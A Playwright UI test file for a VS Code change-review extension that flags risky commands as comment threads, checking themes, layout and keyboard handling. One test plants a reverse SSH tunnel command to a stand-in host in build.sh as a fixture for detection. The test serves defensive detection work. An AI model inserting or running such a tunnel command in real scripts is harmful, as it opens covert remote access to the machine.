/** Reading a change as a person sees it: lenses, marks and threads in the diffs, in each sort of theme. */
import assert from "node:assert/strict";
import { appendFileSync } from "node:fs";
import { join } from "node:path";
import type { Locator } from "playwright-core";
import { readingRepository } from "../../../scripts/vscode/test-windows.mjs";
import { chord, pressFor } from "./keyboard.ts";
import { tellFailedScene } from "./scene.ts";
import { themeNames, wear } from "./themes.ts";
import { eventually, openWorkbench, type Workbench } from "./workbench.ts";

describe("reading a change", () => {
  let workbench: Workbench;

  before(async () => {
    workbench = await openWorkbench((folder) => {
      readingRepository(folder);
      appendFileSync(join(folder, ".git/info/exclude"), ".vscode/\n");
    });
    await workbench.runCommand("Countersign: Review Changes");
    await workbench.page.locator(".multiDiffEntry .codelens-decoration", { hasText: "Verify hunk" }).first().waitFor({ timeout: 60_000 });
  });
  after(() => workbench.close());
  afterEach(async function () {
    await tellFailedScene(workbench, this.currentTest);
  });

  it("has a mark in the gutter of each hunk, by shape, in light, dark and both high contrasts", async () => {
    for (const name of themeNames) {
      await wear(workbench, name);
      await eventually(async () => (await gutterPictures(workbench)).some((picture) => picture.includes("open-")));
      const wanted = name === "light" || name === "high-contrast-light" ? "open-light.svg" : "open-dark.svg";
      await eventually(async () => (await gutterPictures(workbench)).some((picture) => picture.includes(wanted)));
      await workbench.screenshot(`reading-${name}`);
    }
    await wear(workbench, "light");
  });

  it("gives the Review view more room than any other where nobody has moved them", async () => {
    // Runs in the page, as text.
    const heights = await workbench.page.evaluate<readonly number[]>(
      "[...document.querySelectorAll('.sidebar .pane')].map((one) => one.getBoundingClientRect().height)",
    );
    const [review = 0, ...others] = heights;
    assert.equal(others.length, 3);
    for (const other of others) assert.ok(review > 1.4 * other, heights.join());
  });

  it("has each new finding as a thread, in which nothing of the change is a link", async () => {
    const thread = threadOf(workbench, "Opens a reverse tunnel");
    await thread.waitFor();
    assert.match((await thread.textContent()) ?? "", /high severity · command\/reverse-ssh-tunnel/);
    assert.match((await thread.textContent()) ?? "", /agent@203\.0\.113\.7/);
    assert.equal(await thread.locator(".comment-body a").count(), 0);
    // Narrower than its sentence is long.
    await workbench.page.setViewportSize({ width: 1280, height: 800 });
    // Runs in the page, as text.
    const isWrapped = "[...document.querySelectorAll('.review-widget .comment-body p')].every((one) => one.scrollWidth <= one.clientWidth)";
    await eventually(async () => ((await thread.locator(".comment-body p").first().boundingBox())?.width ?? 1_000) < 400);
    assert.equal(await workbench.page.evaluate<boolean>(isWrapped), true);
    await workbench.page.setViewportSize({ width: 1400, height: 900 });
  });

  it("asks for a fix by keyboard alone, which settles nothing by mistake", async () => {
    const { page } = workbench;
    const thread = threadOf(workbench, "Opens a reverse tunnel");
    await thread.locator(".review-thread-reply-button").focus();
    await page.keyboard.press("Enter");
    await page.keyboard.type("not without a ticket");
    await workbench.screenshot("reading-reply");
    await page.keyboard.press("Control+Enter");
    await thread.locator(".comment-body", { hasText: "To be fixed: not without a ticket" }).waitFor();
    await workbench.screenshot("reading-to-be-fixed");
  });

  it("accepts with a reason, which closes the thread", async () => {
    const { page } = workbench;
    const thread = threadOf(workbench, "To be fixed: not without a ticket");
    await thread.locator(".review-thread-reply-button").focus();
    await page.keyboard.press("Enter");
    await page.keyboard.type("the lab's jump host");
    await thread.getByRole("button", { name: "Accept" }).click();
    await thread.waitFor({ state: "hidden" });
    await workbench.screenshot("reading-accepted");
  });

  it("leaves the keyboard where it is when a refresh brings a finding into the file that is read", async () => {
    const { page, folder } = workbench;
    await page.keyboard.press("Control+P");
    await page.locator(".quick-input-widget input[type=text]").waitFor({ state: "visible" });
    await page.keyboard.type("build.sh");
    await page.locator(".quick-input-list .monaco-list-row", { hasText: "build.sh" }).first().waitFor();
    await page.keyboard.press("Enter");
    await page.locator(".tab.active", { hasText: "build.sh" }).waitFor();
    await page.locator(".editor-instance .codelens-decoration", { hasText: "Verify hunk" }).first().waitFor();
    appendFileSync(join(folder, "build.sh"), "ssh -fNR 10:localhost:22 agent@203.0.113.8\n");
    await workbench.runCommand("Countersign: Refresh Review");
    await threadOf(workbench, "203.0.113.8").waitFor();
    // What opens may draw itself some time after it is there.
    await page.waitForTimeout(2_000);
    assert.equal(await page.evaluate<boolean>("document.activeElement?.closest('.review-widget') === null"), true);
  });

  it("is brought from a change in a diff to the thread of its finding, to an answer, and back with Escape, which loses no word", async () => {
    const { page } = workbench;
    // The first ones are of files that are new, which have no other side.
    await pressFor(page.locator(".tab.active", { hasText: "→" }), () => chord(page, "N"));
    await page.locator(".editor.modified .codelens-decoration", { hasText: "Verify hunk" }).first().waitFor();
    // Its neighbour is decided, and folded.
    const thread = page.locator(".editor.modified .review-widget:focus-within", { hasText: "203.0.113.8" });
    await pressFor(thread, () => page.keyboard.press("Alt+F9"));
    await workbench.screenshot("reading-thread-by-key");
    await page.keyboard.press("Tab");
    await page.locator(".editor.modified .review-widget .comment-form:focus-within").waitFor();
    await page.keyboard.type("who answers ");
    // VS Code's own command for this key finds no thread to fold in its answer field, and would leave the keyboard there.
    await page.keyboard.press("Escape");
    await page.locator(".editor.modified:focus-within").waitFor();
    await page.locator(".editor.modified .review-widget:focus-within").waitFor({ state: "detached" });
    await workbench.screenshot("reading-back-in-the-diff");
    // The cursor stands where the thread does, and the key goes on from there.
    await page.keyboard.press("ArrowUp");
    await pressFor(thread, () => page.keyboard.press("Alt+F9"));
    await page.keyboard.press("Tab");
    await page.locator(".editor.modified .review-widget .comment-form:focus-within").waitFor();
    await page.keyboard.type("at that host?");
    await page.keyboard.press("Control+Enter");
    await threadOf(workbench, "To be fixed: who answers at that host?").waitFor();
  });
});

function threadOf({ page }: Workbench, words: string): Locator {
  return page.locator(".review-widget", { hasText: words }).first();
}

/** What is drawn in the glyph margins, as addresses of pictures. */
function gutterPictures({ page }: Workbench): Promise<string[]> {
  // Runs in the page, as text: there are no types of a browser here.
  return page.evaluate(
    `[...document.querySelectorAll(".glyph-margin-widgets .cgmr")].map((node) => getComputedStyle(node).backgroundImage)`,
  );
}
